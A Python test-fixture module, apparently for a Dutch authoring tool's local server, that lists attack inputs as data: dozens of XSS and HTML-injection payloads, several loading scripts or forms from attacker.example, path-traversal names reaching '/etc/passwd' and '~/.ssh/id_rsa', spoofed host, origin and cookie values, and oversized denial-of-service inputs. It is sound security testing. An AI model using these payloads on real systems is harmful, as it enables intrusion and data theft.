# ruff: noqa: E501  (data: an attack a line)
"""Attacks on the author's page, as data: what is pasted, asked and named to break it; and a server to be killed."""

from __future__ import annotations

import hashlib
import html
import json
import multiprocessing
import os
import re
import signal
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any
from unittest import mock

OWN = "window.__owned=1"
AWAY = "http://attacker.example/x"
SECRET = "GEHEIM-7351"  # stands in files outside the project alone
PLAIN = "Een gewone zin die er staat. En nog een zin."
JS = f"javascript:{OWN}"
OLD, NEW = "Een stille zin van haar.", " ".join(["Een andere zin."] * 20_000)
ARTICLE = f"# Rust\n\n{PLAIN}\n\n## Stil zijn\n\n{OLD}\n\n💡 Wat merk je daarvan?\n\nEen zin eronder.\n"
BOOK = '# van haar\ntitle = "Rust"\narticles = ["a.md"]\n'
IMG = f"<img src=x onerror={OWN}>"


def _page(inner: str, title: str = "Rust") -> tuple[str, str]:
    """(text, HTML) on a clipboard: an article with something in it."""
    return (
        "x",
        f"<article><h1>{title}</h1><p>{PLAIN}</p>{inner}<p>{PLAIN}</p><h2>Stil</h2><p>Wat merk je?</p></article>",
    )


def _text(inner: str, title: str = "Rust") -> tuple[str, str]:
    """(text, no HTML) on a clipboard."""
    return f"{title}\n\n{PLAIN}\n\n{inner}\n\n{PLAIN}\n\n💡 Wat merk je?\n", ""


def _mark(inner: str, title: str = "Rust") -> tuple[str, str]:
    """(Markdown, no HTML) on a clipboard."""
    return _text(
        f"## Kop {inner}\n\n{inner}\n\n- {inner}\n- b\n\n> {inner}\n\n| a | b |\n|---|---|\n| {inner} | b |",
        f"# {title}",
    )


def _front(**said: str) -> tuple[str, str]:
    rows = "".join(f"{name}: {value}\n" for name, value in said.items())
    return f"---\n{rows}---\n\n# Rust\n\n{PLAIN}\n\n💡 Wat merk je?\n", ""


PASTES: dict[str, tuple[str, str]] = {
    # elements that run or fetch something
    "script": _page(f"<script>{OWN}</script>"),
    "script in capitals, broken": _page(f"<ScRiPt\n>{OWN}</sCrIpT foo><script>{OWN}"),
    "script from elsewhere": _page(f"<script src='{AWAY}.js'></script><script type=module>import '{AWAY}.js'</script>"),
    "image that fails": _page(IMG),
    "handlers": _page(f"<p onclick={OWN} onmouseover={OWN}>a</p><details open ontoggle={OWN}><summary>b</summary>c</details>"
                      f"<input autofocus onfocus={OWN}><video onloadstart={OWN} src={AWAY}></video><marquee onstart={OWN}>"),
    "handler with a slash": _page(f"<img/src/onerror={OWN}><svg/onload={OWN}><body/onload={OWN}>"),
    "svg": _page(f"<svg onload={OWN}><script>{OWN}</script><animate onbegin={OWN} attributeName=x dur=1s /></svg>"),
    "svg that refers": _page(f"<svg><use href='data:image/svg+xml,<svg id=x onload={OWN}/>#x'/><image href='{AWAY}'/></svg>"),
    "svg with a foreign object": _page(f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{IMG}</body></foreignObject></svg>"),
    "svg with style and script": _page(f"<svg></p><style><a id=\"</style>{IMG}\"></svg>"),
    "mathml": _page(f"<math href='{JS}'><maction actiontype=statusline xlink:href='{JS}'>klik</maction></math>"),
    "mathml that mutates": _page(f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={OWN}&gt;\">"),
    "javascript address": _page(f"<a href='{JS}'>een</a> <a href=' &#14; java\tscript:{OWN}'>twee</a> <a href='JaVaScRiPt:{OWN}'>drie</a>"),
    "javascript by entities": _page(f"<a href='&#x6A;avascript&colon;{OWN}'>een</a><a href='jav&NewLine;ascript:{OWN}'>twee</a>"),
    "data address": _page(f"<a href='data:text/html,<script>opener.__owned=1</script>'>een</a><iframe src='data:text/html,{IMG}'></iframe>"),
    "vbscript and file": _page(f"<a href='vbscript:{OWN}'>een</a> <a href='file:///etc/passwd'>twee</a> <img src='file:///etc/passwd'>"),
    "meta refresh": _page(f"<meta http-equiv=refresh content='0;url={AWAY}'><meta http-equiv=Set-Cookie content='a=b'>"),
    "base": _page(f"<base href='{AWAY}/'><a href='/pad'>pad</a><img src='/beeld.png'>"),
    "iframe": _page(f"<iframe srcdoc=\"{html.escape(IMG)}\"></iframe><iframe src='{JS}'></iframe><embed src='{JS}'><object data='{JS}'></object>"),
    "form": _page(f"<form action='{AWAY}'><input name=a><button formaction='{JS}'>klik</button></form><isindex action='{JS}'>"),
    "links of a page": _page(f"<link rel=stylesheet href='{AWAY}.css'><link rel=preload as=script href='{AWAY}.js'><link rel=import href='{AWAY}'>"),
    "pictures from elsewhere": _page(f"<img src='{AWAY}.png' srcset='{AWAY}-2.png 2x'><picture><source srcset='{AWAY}-3.png'></picture><img data-src='{AWAY}-4.png'>"),
    "style that fetches": _page(f"<style>@import '{AWAY}.css';p{{background:url({AWAY})}}</style><p style=\"background:url('{AWAY}')\">a</p>"),
    "style that computes": _page(f"<p style='width:expression({OWN})'>a</p><p style='behavior:url({AWAY});-moz-binding:url({AWAY})'>b</p>"),
    "style that covers": _page("<p style='position:fixed;inset:0;z-index:9999' class='toast' id='toast'>bedekt alles wat er staat</p>"),
    # what a parser makes of it only the second time
    "template": _page(f"<template>{IMG}<script>{OWN}</script></template><p><template shadowrootmode=open>{IMG}</template></p>"),
    "noscript": _page(f"<noscript><p title=\"</noscript>{IMG}\"></noscript>"),
    "title and textarea": _page(f"<title><p id=\"</title>{IMG}\"></title><textarea></textarea{IMG}</textarea>"),
    "form in a form": _page(f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"),
    "comment that does not end": _page(f"<!--><img src=x onerror={OWN}>--><!--!>{IMG}<!-- --!>{IMG}<![CDATA[{IMG}]]>"),
    "xmp and plaintext": _page(f"<xmp><p title='</xmp>{IMG}'></xmp><noembed><p id='</noembed>{IMG}'></noembed><plaintext>{IMG}"),
    "nesting without end": _page("<div>" * 150 + IMG + "<b><i><u><table><tr><td>" * 8 + IMG + "</p></table></b>"),
    "attributes without quotes": _page(f"<p title=a\"onmouseover={OWN}\" data-says=\"'><script>{OWN}</script>\" alt='`{IMG}`'>a</p>"),
    "parts of our own page": _page("<div id=texts><li class=row id=t0l1 data-file='../../x' data-raw=y data-says=asks>a</li></div>"
                                   "<button data-says=out data-set=title data-go=t0l1>klik</button><dialog open id=made>a</dialog>"),
    "names that shadow": _page("<form id=words name=body><input name=dataset id=key><a id=document name=location>a</a></form>"),
    # letters
    "null bytes": ("x", f"<h1>Ru\0st</h1><p>{PLAIN}\0</p><scr\0ipt>{OWN}</script><img \0src=x on\0error={OWN}><p>Een\0zin.</p>"),
    "escapes of a terminal": _text(f"\x1b[31mRood\x1b]0;titel\x07 \x08\x08 {IMG} \x9b31m en verder."),
    "unicode that folds": _page(f"<p>\uff1cscript\uff1e{OWN}\uff1c/script\uff1e \u017fcript <\u017fcript>{OWN}</\u017fcript> \u212a</p>"),
    "directions and joiners": _text(f"\u202e{IMG}\u202c \u2066a\u2069 \u200b\u200d\ufeff <scr\u00adipt>{OWN}</script>", "\u202eRust\u2028kop\x85nog"),
    "noncharacters": _text(f"\ufffe\uffff \U0001fffe {IMG} \U000e0001\U000e0041 &#0; &#x1F; &#xFFFF; &#xD800;", "Rust\ufffe"),
    "entities twice": _page(f"<p>{html.escape(html.escape(IMG))}</p><p>{html.escape(IMG)}</p>", title=html.escape(IMG)),
    # Markdown that becomes HTML
    "markdown with html": _mark(f"{IMG}<script>{OWN}</script>"),
    "markdown links": _mark(f"[a]({JS}) ![b]({JS}) [c](<{JS}> \"t\") <{JS}> [d](data:text/html,{OWN}) [e]: {JS}"),
    "markdown pictures": _mark(f"![b]({AWAY}.png) ![c](file:///etc/passwd) ![\" onerror=\"{OWN}](x.png) ![d](//attacker.example/y.png)"),
    "markdown that ends an attribute": _mark(f"`\"'>{IMG}` **\"'>{IMG}** \" onfocus={OWN} autofocus x=\" '><script>{OWN}</script>"),
    "marks and labels": _text(f"💡 Wat merk je? {{schaal=\"\" onfocus={OWN} autofocus|'><b>}}\n\n💡 En hoe? {{kolommen=\"{IMG}|<b>x</b>\"}}\n\n<!-- {IMG} -->\n\n"
                              f"💡 Wat nog? {{{IMG}}}"),
    "templates of ours": _mark("{{ words.home }} {% for a in b %} {{ ''.__class__ }} ${alert(1)} {0.__class__} {path} %s %(x)s"),
    "front matter": _front(title=f'"\\"><script>{OWN}</script>"', subtitle=IMG, author=f"'\" onclick={OWN} x='", link=JS, lang="nl\"><script>",
                           date="<b>", category=IMG),
    "title": _page(f"<p>{PLAIN}</p>", title=f"\"'&gt;&lt;script&gt;{OWN}&lt;/script&gt;{html.escape(IMG)} '\"\\"),
    "title as text": _text(PLAIN, f"</title></h1>'\"><script>{OWN}</script>{IMG}<!--"),
}  # fmt: skip

# What a file may be called. None may lead out of the project, or be written where Windows has a device.
NAMES = (
    "../geheim.md", "../../geheim.md", "../buiten/geheim.md", "map/geheim.md", "uit.md", "map/../../buiten/geheim.md", "/etc/passwd", "//etc/passwd",
    "file:///etc/passwd", "~/.ssh/id_rsa", "..\\geheim.md", "..\\..\\buiten\\geheim.md", "C:\\Windows\\win.ini", "C:geheim.md", "\\\\server\\deel\\a.md",
    "a.md\0.png", "\0", "%2e%2e/geheim.md", "%2e%2e%2fgeheim.md", "..%252fgeheim.md", "..;/geheim.md", ".", "..", "", "/", "a" * 300 + ".md",
    "é" * 200 + ".md", "d/" * 300 + "a.md", "CON.md", "nul.md", "com1.txt", "LPT9.x.md", "a.md:strm", "a.md ", "a.md.", ".werkboek/history.jsonl",
    "book.toml", "<img src=x onerror=alert(1)>.md", "\"'><b>.md", "\u202emd.exe", "a\nb.md", "a\r\nSet-Cookie: x.md", "-rf.md", "dist", "logo.png",
)  # fmt: skip
DEVICE = re.compile(r"(?:con|prn|aux|nul|com\d|lpt\d)(?:\.|$)", re.I)

HOSTS = ("evil.example", "evil.example:{port}", "127.0.0.1", "127.0.0.1:{other}", "localhost.evil.example:{port}", "127.0.0.1.nip.io:{port}",
         "127.0.0.1:{port}.evil.example", "evil.example@127.0.0.1:{port}", "127.0.0.1:{port}@evil.example", "0.0.0.0:{port}", "[::1]:{port}",
         "2130706433:{port}", "0x7f.1:{port}", "127.1:{port}", "127.0.0.1:{port},evil.example", "127.0.0.1:0{port}", "werkboek.local:{port}")  # fmt: skip
ORIGINS = ("null", "https://evil.example", "http://evil.example:{port}", "http://127.0.0.1", "http://127.0.0.1:{other}", "https://127.0.0.1:{port}",
           "http://localhost.evil.example:{port}", "http://127.0.0.1:{port}.evil.example", "http://127.0.0.1:{port}/", "file://", "http://",
           "chrome-extension://abcdef", "http://127.0.0.1:{port}, http://evil.example", "http://http://127.0.0.1:{port}")  # fmt: skip
COOKIES = ("", "werkboek-{port}=", "werkboek-{port}=wrong", "werkboek-{port}={short}", "werkboek-{port}={key}x", "werkboek-{other}={key}",
           "werkboek={key}", "werkboek-{port}=\"{key}\\\"", "x=y; werkboek-{port}=wrong", "werkboek-{port}={key}; werkboek-{port}=wrong",
           "\xff\xfe=\xff", "=; ;;=,", "werkboek-{port}=\xe9" * 50)  # fmt: skip
KEYS = ("", "wrong", "{short}", "{key}x", "\xe9", "null", "{key},{key}")


# On a clipboard: twenty megabytes of what a reader may take long over.
_LINE = "Een zin die er staat en nog een woord. "
SIZE = 20_000_000
HUGE: dict[str, Callable[[], dict[str, str]]] = {
    "one line": lambda: {"text": _LINE * (SIZE // len(_LINE))},
    "many lines": lambda: {"text": f"{_LINE}\n" * (SIZE // len(_LINE))},
    "one letter": lambda: {"text": "a" * SIZE},
    "signs": lambda: {"text": "# x\n\n" + "[a](" * (SIZE // 4)},
    "garbled": lambda: {"text": "Ã©" * (SIZE // 4)},
    "tags that do not end": lambda: {"text": "x", "html": "<p " * (SIZE // 3)},
    "remarks that do not end": lambda: {"text": "x", "html": "<b>x</b>" + "<!--" * (SIZE // 4)},
    "elements": lambda: {"text": "x", "html": f"<p>{_LINE}</p><b>" * (SIZE // 60)},
    "a picture": lambda: {"text": "x", "html": f"<h1>x</h1><img src='data:image/png;base64,{'A' * SIZE}'>"},
}

TARGETS = ("http://evil.example/", "http://127.0.0.1:{port}/state", "https://evil.example/leave", "//evil.example/state", "evil.example:443", "*",
           "/../state", "/./state", "/state/..;/", "/%2e%2e/state", "/asset/../state", "/\\evil.example", "/state%00", "/STATE", "/static/desk.js",
           "/.git/config", "/asset/")  # fmt: skip


def asked(port: int, request: bytes) -> tuple[int, bytes]:
    """(status, all of the answer) to the bytes of a request, sent as they are."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.sendall(request)
        answer = b""
        while piece := connection.recv(65536):
            answer += piece
    return int(answer.split(b" ", 2)[1]) if answer else 0, answer


def digest(folder: Path) -> str:
    """What is in a folder, links as links."""
    found = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_symlink() or path.is_file():
            data = str(path.readlink()).encode() if path.is_symlink() else path.read_bytes()
            found.update(b"%s %d " % (os.fsencode(path.relative_to(folder)), len(data)) + data)
    return found.hexdigest()


def begun(folder: Path) -> tuple[Path, Path]:
    """A project, and a folder beside it that it must not reach."""
    project, outside = folder / "Werkboek" / "boek", folder / "Werkboek" / "buiten"
    for one in (project, outside):
        one.mkdir(parents=True)
    (project / "a.md").write_text(ARTICLE, encoding="utf-8")
    (project / "book.toml").write_text(BOOK, encoding="utf-8")
    (outside / "geheim.md").write_text(f"# {SECRET}\n\n{SECRET} is een zin.\n", encoding="utf-8")
    (outside / "logo.png").write_bytes(b"\x89PNG" + SECRET.encode())
    return project, outside


# ------------------------------------------------------------------------------------------- a server to be killed


@dataclass
class Victim:
    """A server in a process of its own."""

    process: Any
    port: int
    key: str

    def ask(self, method: str, path: str, body: object = None) -> bytes:
        """Its answer; nothing, if it died first."""
        data = json.dumps(body).encode()
        head = f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{self.port}\r\nContent-Length: {len(data)}\r\nConnection: close\r\n"
        head += f"Cookie: werkboek-{self.port}={self.key}\r\nX-Werkboek: {self.key}\r\n\r\n"
        try:
            return asked(self.port, head.encode() + data)[1]
        except OSError:
            return b""


def victim(project: Path) -> Victim:
    """A server of a project, that lays out nothing."""
    context = multiprocessing.get_context("forkserver")
    context.set_forkserver_preload(["werkboek.studio.run", "werkboek.build", "werkboek.read.markdown"])
    ours, theirs = context.Pipe()
    process = context.Process(target=_served, args=(project, theirs), daemon=True)
    process.start()
    return Victim(process, *ours.recv())


def _served(project: Path, pipe: Connection) -> None:
    from werkboek.output import Output
    from werkboek.studio import desk, run

    with (
        mock.patch.object(desk, "gatherings", return_value=()),
        mock.patch.object(desk, "printed", return_value=Output("standard", "a.pdf", b"")),
        mock.patch.object(run, "_warm"),
    ):
        server = run.Server(project, 0)
        pipe.send((server.port, server.guard.token))
        server.run()


def killed(victim: Victim, project: Path, wait: float) -> str:
    """Kills a server so many seconds after it was asked to change something; what is in the file afterwards."""
    while b"data-first" not in victim.ask("GET", "/state"):
        time.sleep(0.01)
    said = {"do": "text", "file": "a.md", "first": ARTICLE.split("\n").index(OLD) + 1, "raw": OLD, "value": NEW}
    threading.Thread(target=victim.ask, args=("POST", "/edit", said), daemon=True).start()
    time.sleep(wait)
    os.kill(victim.process.pid, signal.SIGKILL)
    victim.process.join()
    return (project / "a.md").read_text(encoding="utf-8")
